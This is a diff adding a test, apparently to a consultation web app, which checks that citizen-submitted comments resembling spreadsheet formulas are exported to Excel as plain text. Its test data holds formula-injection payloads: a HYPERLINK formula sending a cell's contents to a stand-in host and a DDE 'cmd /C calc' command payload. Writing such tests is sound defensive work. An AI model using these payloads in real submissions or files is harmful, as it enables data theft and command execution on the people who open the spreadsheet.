@@ -154,3 +154,25 @@ def test_unpublished_or_future_draft_is_not_found(client):
     assert client.get(OPEN).status_code == 404
     Draft.objects.filter(pk=draft.pk).update(is_public=False)
     assert client.get(OPEN).status_code == 404
+
+
+def test_citizen_text_that_looks_like_a_formula_is_exported_as_text(client, login):
+    formula = '=HYPERLINK("http://ke-gian.example/?d="&B5,"Bấm để xem văn bản gốc")'
+    client.post(OPEN, {**COMMENT, "name": "=1+2", "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
+                       "text": formula}, REMOTE_ADDR="203.0.113.17")
+    content = office_export(login, _draft())
+    sheet = load_workbook(io.BytesIO(content)).active
+    row = next(row for row in sheet.iter_rows() if row[3].value == "binh@example.com")
+    name, organisation, text = row[1], row[2], row[5]
+    assert text.value == formula and text.data_type == "s"  # shown as typed, never run
+    assert name.value == "=1+2" and name.data_type == "s"
+    assert organisation.value.startswith("@SUM") and organisation.data_type == "s"
+    assert text.quotePrefix and name.quotePrefix  # stays text when the Office edits the cell
+    assert b"<f>" not in _sheet_xml(content)
+
+
+def _sheet_xml(content):
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml")
